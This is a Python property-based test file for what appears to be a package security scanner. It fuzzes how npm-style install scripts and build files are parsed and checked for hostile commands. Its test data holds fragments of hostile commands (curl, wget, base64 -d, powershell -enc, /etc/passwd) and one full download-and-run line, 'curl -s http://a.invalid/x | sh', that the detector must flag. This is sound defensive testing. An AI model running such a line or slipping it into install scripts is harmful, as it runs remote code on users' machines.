"""Command lines and what names them: any text is split, followed and judged within bounds."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from assay.assessment.entry_points import entry_points
from assay.detectors._command_line import shape_of
from assay.detectors.metadata._lifecycle import MAX_LINES, Line, called_by, install_scripts, is_build, is_housekeeping
from assay.model.manifest import Manifest
from assay.model.tarball import Member

_PIECES = (
    *(
        "curl ",
        "wget ",
        "http://a.invalid/x",
        " | ",
        "sh",
        "bash -c ",
        "$(",
        ")",
        "`",
        "<(",
        "&&",
        "||",
        ";",
        "&",
        "\n",
    ),
    *(
        "node ",
        "a.js",
        "-e ",
        "npm run ",
        "build",
        "cross-env ",
        "A=b ",
        "npx ",
        "-y ",
        "'",
        '"',
        "\\",
        "> /dev/null",
        "2>&1",
    ),
    *(
        "${HOME}",
        "%USERNAME%",
        "cd lib",
        "base64 -d",
        "powershell ",
        "-enc ",
        "echo ",
        "../",
        "\t",
        "\0",
        "env ",
        "nohup ",
    ),
)
commands = st.lists(st.sampled_from(_PIECES) | st.text(max_size=3), max_size=40).map("".join)
names = st.sampled_from(["preinstall", "install", "postinstall", "prepare", "build", "prebuild", "a"])


@given(commands)
def test_any_command_line_is_split_and_judged(command: str) -> None:
    line = Line("postinstall", command)
    assert sum(map(len, line.steps)) <= len(command)
    assert all(step == step.strip() and step for step in line.steps)
    for step in line.steps:
        is_build(step)
        is_housekeeping(step)
        assert all(word in step for word in called_by(step))
    shape = shape_of(command)
    assert shape is None or shape.what


@given(commands, commands)
def test_what_stands_before_and_behind_hides_no_download(before: str, after: str) -> None:
    assert shape_of(before[:500] + "\ncurl -s http://a.invalid/x | sh\n" + after[:500]) is not None


@settings(deadline=None)
@given(st.dictionaries(names, commands, max_size=7))
def test_scripts_that_call_each_other_come_to_an_end(scripts: dict[str, str]) -> None:
    for script in install_scripts(Manifest(scripts=scripts)):
        assert 1 <= len(script.lines) <= MAX_LINES
        assert len({line.key for line in script.lines}) == len(script.lines)


@settings(deadline=None)
@given(
    st.dictionaries(names, commands, max_size=4),
    st.lists(st.sampled_from(["<!(", "<!@(", "'action': [", "]", ")", "{", "[", "node a.js", "\n", "'"])).map("".join),
    st.sampled_from(["*", "./lib/*.js", "./**/*", "./*", "*/*", "lib/a.js", "../x", "", "/etc/passwd"]),
)
def test_any_scripts_and_build_files_name_their_entry_points(scripts: dict[str, str], gyp: str, export: str) -> None:
    data = gyp.encode()
    members = {
        path: Member(path, len(data), head=data, data=data)
        for path in ("binding.gyp", ".vscode/tasks.json", ".github/workflows/a.yml", "lib/a.js")
    }
    manifest = Manifest(scripts=scripts, entry_points={"exports": export})
    found = list(entry_points(members, manifest))
    assert len(found) <= 20_000
    assert found == list(entry_points(members, manifest))
    assert ("main", "index.js") in found
